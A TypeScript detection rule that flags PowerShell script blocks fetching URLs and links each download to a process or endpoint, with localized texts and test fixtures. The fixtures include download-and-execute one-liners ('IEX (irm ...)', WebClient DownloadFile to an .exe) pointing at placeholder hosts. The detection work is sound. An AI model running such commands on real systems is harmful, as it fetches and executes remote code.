import { baseName } from '../../normalise/path.ts'
import { orderedDownloads } from '../downloads.ts'
import { fileOn, proofOf, urlEntity } from '../drafts.ts'
import { exampleEvent } from '../example.ts'
import type { ProcessFact } from '../process-index.ts'
import { startedAround } from '../started-around.ts'
import type { Rule } from '../rule.ts'
import type { CorrelationView, ViewEvent } from '../view.ts'

/** PowerShell ran the block; one PowerShell of this user was running. */
const ONE_PROCESS = 0.8
/** Which process it was is not in the record; the endpoint is. */
const ENDPOINT_ONLY = 0.7
/** The address does not stand beside the word that fetches. */
const NAMED = 0.55
/** A PowerShell that runs longer than this is a console or a service; its start may be long gone. */
const LOOK_BACK_US = 12 * 3_600_000_000
const HOSTS = new Set(['powershell.exe', 'pwsh.exe', 'powershell_ise.exe', 'wsmprovhost.exe'])

const rule: Rule = {
  id: 'script.block',
  order: 34,
  relations: ['connected-to', 'downloaded-to'],
  attack: ['T1059.001', 'T1105'],
  texts: {
    en: {
      title: 'Downloads in PowerShell scripts',
      description:
        'The text of a script that PowerShell ran fetches an address. The script log does not name the process: the relation starts from the one PowerShell of that user running at the time, else from the endpoint.',
      needs: 'PowerShell script block logging (4104); process starts to find the process.',
      falsePositives:
        'A script block is logged when it is compiled: code that was never reached is logged as well. Administration scripts download tools.',
      'reason.script': 'A script that ran in {program} at this time fetches this address.',
      'reason.script_host':
        'A PowerShell script on this endpoint fetches this address; the record names no process.',
      'reason.saved': 'A PowerShell script was told to save the download as this file.',
    },
    'zh-TW': {
      title: 'PowerShell 指令碼中的下載',
      description:
        'PowerShell 執行的指令碼內容會取得某個位址。指令碼記錄不載明處理程序：若當時該使用者只有一個 PowerShell 在執行，關聯由它開始，否則由端點開始。',
      needs: 'PowerShell 指令碼區塊記錄（4104）；另需處理程序啟動紀錄以找出處理程序。',
      falsePositives: '指令碼區塊在編譯時即被記錄，未實際執行到的程式碼也會列入。管理用指令碼也會下載工具。',
      'reason.script': '當時在 {program} 中執行的指令碼會取得此位址。',
      'reason.script_host': '此端點上的 PowerShell 指令碼會取得此位址，紀錄未載明處理程序。',
      'reason.saved': 'PowerShell 指令碼受命將下載內容存為此檔案。',
    },
    ja: {
      title: 'PowerShell スクリプト内のダウンロード',
      description:
        'PowerShell が実行したスクリプトの本文がアドレスから取得しています。スクリプトのログにはプロセスが示されないため、その時点でそのユーザーの PowerShell が 1 つだけ動作していればそれを、そうでなければエンドポイントを起点とします。',
      needs: 'PowerShell のスクリプトブロックのログ（4104）。プロセスの特定にはプロセス起動の記録。',
      falsePositives:
        'スクリプトブロックはコンパイル時に記録されるため、実行されなかった部分も含まれます。管理用スクリプトもツールをダウンロードします。',
      'reason.script': 'この時点で {program} で実行されたスクリプトが、このアドレスから取得します。',
      'reason.script_host':
        'このエンドポイントの PowerShell スクリプトがこのアドレスから取得します。記録にプロセスは示されていません。',
      'reason.saved':
        'PowerShell スクリプトは、ダウンロードした内容をこのファイルに保存するよう命じられました。',
    },
  },
  matches: [
    {
      title:
        'a script that downloads a program, with its PowerShell running; one on a host without process starts',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 5,
        }),
        exampleEvent('script-block', 2, {
          detail:
            "(New-Object Net.WebClient).DownloadFile('https://cdn.example.net/a', 'C:\\ProgramData\\a.exe')",
        }),
        exampleEvent('script-block', 3, {
          host: 'WS-02',
          detail: "IEX (irm 'https://cdn.example.net/s.ps1')",
        }),
      ],
      finds: [
        'connected-to: powershell.exe -> https://cdn.example.net/a',
        'downloaded-to: https://cdn.example.net/a -> a.exe',
        'connected-to: WS-02 -> https://cdn.example.net/s.ps1',
      ],
    },
  ],
  ignores: [
    {
      title: 'scripts that mention an address without fetching it',
      items: [
        exampleEvent('script-block', 0, {
          detail: '# see https://docs.example.org/install\nGet-ChildItem C:\\Windows',
        }),
      ],
      finds: [],
    },
  ],

  *run(view) {
    for (const event of view.events(['script-block'], ['detail'])) {
      const { detail } = event.fields
      if (event.endpointId === null || detail === undefined) continue
      const downloads = orderedDownloads(detail)
      if (downloads.length === 0) continue
      const process = hostProcess(view, event, event.endpointId)
      for (const { url, path, isSameStatement } of downloads) {
        const page = urlEntity(url)
        if (!page) continue
        const sure = process ? ONE_PROCESS : ENDPOINT_ONLY
        const base = { at: event.at, confidence: isSameStatement ? sure : NAMED, proof: proofOf(event) }
        if (process)
          yield {
            ...base,
            kind: 'connected-to',
            from: process.draft,
            to: page,
            reason: 'script',
            params: { program: process.draft.name },
          }
        else yield { ...base, kind: 'connected-to', from: event.endpointId, to: page, reason: 'script_host' }
        if (path !== undefined)
          yield {
            ...base,
            kind: 'downloaded-to',
            from: page,
            to: fileOn(view.entity(event.endpointId), path),
            reason: 'saved',
          }
      }
    }
  },
}
export default rule

/** The one PowerShell of the user that was running; undefined when none or several were. */
function hostProcess(view: CorrelationView, event: ViewEvent, endpointId: number): ProcessFact | undefined {
  if (event.at === null) return undefined
  const { at, userId } = event
  const running = startedAround(view, endpointId, at - LOOK_BACK_US, at).filter(
    (process) =>
      HOSTS.has(baseName(process.path).toLowerCase()) &&
      (process.endAt === null || process.endAt >= at) &&
      (userId === null || process.userId === null || process.userId === userId),
  )
  return running.length === 1 ? running[0] : undefined
}
